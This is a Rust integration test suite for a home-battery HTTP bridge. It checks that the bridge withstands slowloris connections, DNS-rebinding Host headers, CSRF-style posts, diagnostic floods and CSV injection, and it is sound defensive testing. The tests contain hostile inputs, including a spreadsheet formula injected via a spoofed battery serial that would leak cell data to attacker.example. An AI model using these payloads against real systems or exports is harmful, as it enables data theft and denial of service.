//! The real binary against hostile HTTP clients on the LAN, one test per attack of issue
//! 21 item 4, over real sockets, each asserting the bound (`docs/security.md`, "HTTP
//! clients on the LAN", has the figures before → after):
//!
//! - 300 half-sent requests (slowloris) under a 256-file limit: closed within the header
//!   timeout, `/healthz` answers meanwhile, the process never runs out of descriptors;
//! - a DNS-rebinding `Host`: 421, even with the token;
//! - the token in a URL: 401; `text/plain` and form bodies: 415; a foreign `Origin`: 403;
//!   `bearer` in lower case: accepted; security headers on every answer;
//! - a public bind without a token: `run` and `check-config` refuse, one line, exit 1;
//! - concurrent diagnostics: one build, the others 429 with `Retry-After`, counted;
//! - a spoofed battery serial `=HYPERLINK(…)` in the CSV export: escaped, numbers kept.

mod support;

use std::process::Command;
use std::sync::Arc;
use std::sync::atomic::{AtomicBool, AtomicUsize, Ordering};
use std::time::{Duration, Instant};

use catalog::Channel;
use protocol::Value;
use protocol::dispatch::MappedReport;
use protocol::encode::{FrameSpec, encode_battery_packs, encode_frames, encode_report};
use serde_json::json;
use support::{Bridge, Publisher, bin, metric, source_section, start_sim, write_ca};
use testkit::raw_http::{closed_after, half_open, request};
use testkit::{Proc, wait_for_async};

const DEVICE: &str = "HC31ZDH5ZF220123";
/// A configured serial only the test publishes for (the simulator never overwrites it).
const CRAFTED: &str = "HC31CRAFTED00021";
const TOKEN: &str = "hostile-http-t0ken-5e2a";
const AUTH: (&str, &str) = ("Authorization", "Bearer hostile-http-t0ken-5e2a");

/// The bridge against `sim` with `web` as its `[web]` section (bind 127.0.0.1:0 added
/// unless it names one) and `extra` sections.
fn config(sim: &simulator::Simulator, dir: &std::path::Path, web: &str, extra: &str) -> String {
    let ca = write_ca(sim, dir);
    let bind = if web.contains("bind") {
        ""
    } else {
        "bind = \"127.0.0.1:0\"\n"
    };
    format!(
        "{}\n[web]\n{bind}{web}\n{extra}",
        source_section(sim, &[DEVICE, CRAFTED], Some(&ca))
    )
}

/// The simulator and the bridge (with [`TOKEN`]) of one test.
struct Setup {
    sim: simulator::Simulator,
    bridge: Bridge,
    _dir: testkit::TempDir,
}

impl Setup {
    async fn start(tag: &str, web: &str, extra: &str) -> Setup {
        let sim = start_sim(&[DEVICE], 20.0).await;
        let dir = testkit::temp_dir(tag);
        let config = config(&sim, dir.path(), web, extra);
        let bridge = tokio::task::block_in_place(|| {
            Bridge::start(dir.path(), &config, &[("OCEANBRIDGE_WEB_TOKEN", TOKEN)])
        });
        Setup {
            sim,
            bridge,
            _dir: dir,
        }
    }

    async fn stop(self) {
        drop(self.bridge);
        self.sim.shutdown().await;
    }
}

/// A counter of `/metrics` (`oceanbridge_dropped_total{reason=…}`), 0 when absent.
async fn dropped(bridge: &Bridge, reason: &str) -> f64 {
    let m = bridge.get("/metrics", Some(TOKEN)).await;
    assert_eq!(m.status, 200, "{}", m.body);
    metric(
        &m.body,
        &format!("oceanbridge_dropped_total{{reason=\"{reason}\"}}"),
    )
    .unwrap_or(0.0)
}

fn open_files(pid: u32) -> usize {
    std::fs::read_dir(format!("/proc/{pid}/fd")).map_or(0, |d| d.count())
}

#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn slowloris_is_closed_within_the_header_timeout_and_healthz_answers_under_256_files() {
    let prlimit = testkit::require!(testkit::services::program("prlimit", "util-linux"));
    let sim = start_sim(&[DEVICE], 20.0).await;
    let dir = testkit::temp_dir("slowloris");
    let header_timeout = Duration::from_secs(2);
    let config = config(&sim, dir.path(), "header_timeout = \"2s\"\n", "");
    let mut command = Command::new(&prlimit);
    command
        .args(["--nofile=256:256", "--"])
        .arg(env!("CARGO_BIN_EXE_oceanbridge"))
        .env_remove("RUST_LOG");
    let bridge =
        tokio::task::block_in_place(|| Bridge::start_with(command, dir.path(), &config, &[]));
    // Running for real first: MQTT, the history and the capture hold their files.
    wait_for_async(Duration::from_secs(60), async || {
        bridge.stderr().contains("MQTT connected").then_some(())
    })
    .await
    .unwrap_or_else(|| panic!("never connected; stderr:\n{}", bridge.stderr()));
    let limits = std::fs::read_to_string(format!("/proc/{}/limits", bridge.pid())).expect("limits");
    assert!(
        limits
            .lines()
            .any(|l| l.starts_with("Max open files") && l.contains(" 256 ")),
        "{limits}"
    );
    let files_before = open_files(bridge.pid());
    // The most files the bridge holds at any moment of the attack.
    let peak = Arc::new(AtomicUsize::new(0));
    let sampling = Arc::new(AtomicBool::new(true));
    let sampler = {
        let (peak, sampling, pid) = (peak.clone(), sampling.clone(), bridge.pid());
        std::thread::spawn(move || {
            while sampling.load(Ordering::Relaxed) {
                peak.fetch_max(open_files(pid), Ordering::Relaxed);
            }
        })
    };

    let start = Instant::now();
    let mut slow = Vec::new();
    for _ in 0..300 {
        slow.push(half_open(bridge.web).await);
    }
    // While they are held, the health probe answers at once.
    let t = Instant::now();
    let health = request(bridge.web, "GET", "/healthz", &[], "").await;
    let health_ms = t.elapsed().as_millis();
    assert_eq!(health.status, 200, "{}", health.body);
    let limit = header_timeout + Duration::from_secs(15);
    let watchers: Vec<_> = slow
        .into_iter()
        .map(|s| tokio::spawn(closed_after(s, start, limit)))
        .collect();
    let mut closed = Vec::new();
    for w in watchers {
        closed.push(w.await.expect("join"));
    }
    let closed: Vec<Duration> = closed
        .into_iter()
        .map(|c| c.expect("every half-sent request is closed"))
        .collect();
    sampling.store(false, Ordering::Relaxed);
    sampler.join().expect("sampler");
    let peak = peak.load(Ordering::Relaxed);
    let latest = closed.iter().max().copied().unwrap_or_default();
    let held = closed
        .iter()
        .filter(|c| **c >= header_timeout - Duration::from_millis(100));
    let held = held.count();
    let replaced = dropped(&bridge, "web_connection_replaced").await;
    eprintln!(
        "measured: 300 half-sent requests under a 256-file limit: {held} held until the header \
         timeout ({header_timeout:?}), {} closed early for newer connections (counted {replaced}); \
         the last closed {latest:.2?} after opening; /healthz answered in {health_ms} ms meanwhile; \
         open files {files_before} before, at most {peak} during",
        300 - held
    );
    assert!(
        latest <= header_timeout + Duration::from_secs(5),
        "{latest:?}"
    );
    assert!(
        (1..=128).contains(&held),
        "{held} held: the cap is half the file limit"
    );
    // The cap's 128 sockets, the one being admitted, the probe, and a little slack for the
    // bridge's own files (a capture segment, a reconnect); far from the 256 limit.
    assert!(
        peak <= files_before + 128 + 8,
        "{peak} files open: more than the cap of 128 connections"
    );
    assert!(replaced >= 1.0, "{replaced}");
    let after = request(bridge.web, "GET", "/healthz", &[], "").await;
    assert_eq!(after.status, 200);
    let log = bridge.stderr();
    assert!(!log.contains("Too many open files"), "{log}");
    drop(bridge);
    sim.shutdown().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn a_dns_rebinding_host_is_refused_even_with_the_token() {
    let setup = Setup::start("rebinding", "allowed_hosts = [\"bridge.example\"]\n", "").await;
    let bridge = &setup.bridge;
    let port = bridge.web.port();
    let evil = format!("attacker.example:{port}");
    for path in ["/api/devices", "/api/export.csv", "/api/diagnostics", "/"] {
        let r = request(bridge.web, "GET", path, &[("Host", &evil), AUTH], "").await;
        assert_eq!(r.status, 421, "{path}: {}", r.body);
        assert!(!r.body.contains(DEVICE));
    }
    let probe = request(bridge.web, "GET", "/healthz", &[("Host", &evil)], "").await;
    assert_eq!(probe.status, 200, "container probes may use any name");
    for host in [
        format!("bridge.example:{port}"),
        format!("localhost:{port}"),
    ] {
        let r = request(
            bridge.web,
            "GET",
            "/api/devices",
            &[("Host", &host), AUTH],
            "",
        )
        .await;
        assert_eq!(r.status, 200, "{host}: {}", r.body);
    }
    assert_eq!(dropped(bridge, "web_host_refused").await, 4.0);
    assert!(
        bridge.stderr().contains("allowed_hosts"),
        "the first refusal is logged with the fix"
    );
    setup.stop().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn writes_need_the_token_header_json_and_the_same_origin() {
    // A dry run: a write that passes is validated and audited, nothing is sent.
    let control = "[control]\nenabled = true\ndry_run = true\n";
    let setup = Setup::start("writes", "", control).await;
    let bridge = &setup.bridge;
    wait_for_async(Duration::from_secs(60), async || {
        let d = bridge.get_json("/api/devices", Some(TOKEN)).await;
        d["devices"]
            .as_array()
            .is_some_and(|a| a.iter().any(|x| x["device_sn"] == DEVICE))
            .then_some(())
    })
    .await
    .unwrap_or_else(|| panic!("no device; stderr:\n{}", bridge.stderr()));
    let path = format!("/api/devices/{DEVICE}/settings");
    let body = json!({"setting": "battery_limits", "backup_reserve": 20, "surplus_threshold": 80})
        .to_string();
    let post = async |headers: &[(&str, &str)], path: &str| {
        request(bridge.web, "POST", path, headers, &body).await
    };
    let json = ("Content-Type", "application/json");
    // The token in the URL, even the right one: 401.
    let r = post(&[json], &format!("{path}?token={TOKEN}")).await;
    assert_eq!(r.status, 401, "{}", r.body);
    assert!(r.body.contains("Authorization: Bearer"), "{}", r.body);
    // Bodies a foreign page can post without asking: 415.
    for t in ["text/plain", "application/x-www-form-urlencoded"] {
        let r = post(&[AUTH, ("Content-Type", t)], &path).await;
        assert_eq!(r.status, 415, "{t}: {}", r.body);
    }
    // A foreign page's Origin: 403.
    let r = post(&[AUTH, json, ("Origin", "http://attacker.example")], &path).await;
    assert_eq!(r.status, 403, "{}", r.body);
    // The dashboard's own origin, with `bearer` in lower case: carried out (dry run).
    let own = format!("http://{}", bridge.web);
    let lower = ("Authorization", "bearer hostile-http-t0ken-5e2a");
    let r = post(&[lower, json, ("Origin", &own)], &path).await;
    assert_eq!(r.status, 200, "{}", r.body);
    assert!(r.body.contains("dry_run"), "{}", r.body);
    // Only that one reached the controller.
    let audit = bridge.get_json("/api/control/audit", Some(TOKEN)).await;
    assert_eq!(audit["rows"].as_array().map(Vec::len), Some(1), "{audit}");
    // Every answer carries the security headers, refusals too.
    let answers = [
        request(bridge.web, "GET", "/", &[], "").await,
        request(bridge.web, "GET", "/api/devices", &[], "").await,
        r,
        post(&[AUTH, ("Content-Type", "text/plain")], &path).await,
    ];
    for a in answers {
        assert_eq!(a.header("x-frame-options"), Some("DENY"));
        let csp = a.header("content-security-policy").unwrap_or_default();
        assert!(csp.contains("frame-ancestors 'none'"), "{csp}");
        assert_eq!(a.header("x-content-type-options"), Some("nosniff"));
        assert_eq!(a.header("referrer-policy"), Some("no-referrer"));
    }
    setup.stop().await;
}

#[test]
fn a_public_bind_without_a_token_refuses_to_start() {
    let dir = testkit::temp_dir("public-bind");
    let path = dir.path().join("oceanbridge.toml");
    // A cloud that refuses connections: nothing leaves this machine.
    let cloud = testkit::closed_port();
    let source = format!(
        "[source]\napi_url = \"http://{}\"\nemail = \"me@example.com\"\npassword = \"pw\"\n\
         devices = [\"HC31X\"]\n",
        cloud.addr
    );
    std::fs::write(&path, format!("{source}[web]\nbind = \"0.0.0.0:0\"\n")).expect("config");
    for command in ["run", "check-config"] {
        let mut cmd = bin();
        cmd.arg(command).arg("--config").arg(&path);
        cmd.env("OCEANBRIDGE_DATA_DIR", dir.path().join("state"));
        let mut proc = Proc::spawn(cmd);
        let status = proc.wait_exit(Duration::from_secs(30));
        let stderr = proc.stderr();
        assert_eq!(status.code(), Some(1), "{command}: {stderr}");
        let errors: Vec<&str> = stderr.lines().filter(|l| l.starts_with("error:")).collect();
        assert_eq!(errors.len(), 1, "{command}: one error line: {stderr}");
        assert!(
            errors[0].contains("[web] token") && errors[0].contains("allow_public_without_token"),
            "{command}: {}",
            errors[0]
        );
        eprintln!("{command}: {}", errors[0]);
    }
    // The explicit opt-out: it starts, with a warning.
    let open = format!("{source}[web]\nbind = \"0.0.0.0:0\"\nallow_public_without_token = true\n");
    std::fs::write(&path, open).expect("config");
    let mut cmd = bin();
    cmd.args(["run", "--config"]).arg(&path);
    cmd.env("OCEANBRIDGE_DATA_DIR", dir.path().join("state"));
    let mut proc = Proc::spawn(cmd);
    let line = proc.wait_stderr("without a token", Duration::from_secs(60));
    assert!(line.contains("WARN"), "{line}");
    proc.stop(Duration::from_secs(20));
}

#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn concurrent_diagnostics_build_one_bundle_the_rest_get_429() {
    let setup = Setup::start("diag-busy", "", "").await;
    let bridge = &setup.bridge;
    wait_for_async(Duration::from_secs(60), async || {
        bridge.stderr().contains("MQTT connected").then_some(())
    })
    .await
    .unwrap_or_else(|| panic!("never connected; stderr:\n{}", bridge.stderr()));
    // Eight at once, in rounds until one overlaps a build (a build takes milliseconds).
    let (mut ok, mut busy) = (0, 0);
    for _ in 0..20 {
        let requests: Vec<_> = (0..8)
            .map(|_| {
                let web = bridge.web;
                tokio::spawn(
                    async move { request(web, "GET", "/api/diagnostics", &[AUTH], "").await },
                )
            })
            .collect();
        let mut answers = Vec::new();
        for r in requests {
            answers.push(r.await.expect("join"));
        }
        for a in &answers {
            match a.status {
                200 => ok += 1,
                429 => {
                    busy += 1;
                    assert_eq!(a.header("retry-after"), Some("5"));
                }
                other => panic!("diagnostics answered {other}: {}", a.body),
            }
        }
        assert!(
            answers.iter().any(|a| a.status == 200),
            "each round builds one"
        );
        if busy > 0 {
            break;
        }
    }
    eprintln!("measured: concurrent diagnostics: {ok} built, {busy} answered 429");
    assert!(busy > 0, "no request overlapped a build in 20 rounds of 8");
    assert_eq!(
        dropped(bridge, "web_diagnostics_busy").await,
        f64::from(busy)
    );
    setup.stop().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn a_spoofed_battery_serial_is_escaped_in_the_csv_export() {
    let setup = Setup::start("csv-inject", "", "").await;
    let bridge = &setup.bridge;
    let spoofed = "=HYPERLINK(\"http://attacker.example/?leak=\"&A1,\"open\")";
    let pack = catalog::channel_states(Channel::battery_pack(0).expect("pack 0"));
    let sn = pack.iter().find(|s| s.name == "bpSn").expect("bpSn");
    let packs = vec![vec![(sn, Value::Text(spoofed.into()))]];
    let stream = [
        ("EnergyStreamItem.bpPwr", -350.0),
        ("EnergyStreamItem.gridPwr", -1200.0),
    ]
    .map(|(k, v)| (catalog::by_key(k).expect("key"), Value::Number(v)));
    let frames = vec![
        FrameSpec::report(
            MappedReport::BatteryPacks,
            encode_battery_packs(&packs).expect("encodes"),
            CRAFTED,
            7001,
            true,
        ),
        FrameSpec::report(
            MappedReport::EnergyStream,
            encode_report(Channel::EnergyStreamItem, &stream).expect("encodes"),
            CRAFTED,
            7002,
            true,
        ),
    ];
    let payload = encode_frames(frames);
    let publisher = Publisher::connect(&setup.sim, "hostile-csv").await;
    let topic = protocol::topics::property_topic(CRAFTED);
    let path = format!("/api/export.csv?device={CRAFTED}");
    // Published until it shows: the bridge may not have subscribed yet at first.
    let csv = wait_for_async(Duration::from_secs(60), async || {
        publisher.publish(&topic, payload.clone()).await;
        let r = bridge.get(&path, Some(TOKEN)).await;
        (r.body.contains("bpInfo0.bpSn") && r.body.contains("EnergyStreamItem.bpPwr"))
            .then_some(r.body)
    })
    .await
    .unwrap_or_else(|| {
        panic!(
            "the crafted values never arrived; stderr:\n{}",
            bridge.stderr()
        )
    });
    let row = |key: &str| -> String {
        csv.lines()
            .find(|l| l.contains(&format!(",{key},")))
            .unwrap_or_else(|| panic!("no {key} row in {csv}"))
            .to_string()
    };
    let serial = row("bpInfo0.bpSn");
    eprintln!("measured: CSV row of the spoofed serial: {serial}");
    assert!(
        serial
            .contains(",\"'=HYPERLINK(\"\"http://attacker.example/?leak=\"\"&A1,\"\"open\"\")\","),
        "{serial}"
    );
    // Numbers stay numbers, negative ones too.
    assert!(row("EnergyStreamItem.bpPwr").contains(",-350,"), "{csv}");
    assert!(row("EnergyStreamItem.gridPwr").contains(",-1200,"), "{csv}");
    assert!(!csv.contains("'-"), "{csv}");
    setup.stop().await;
}
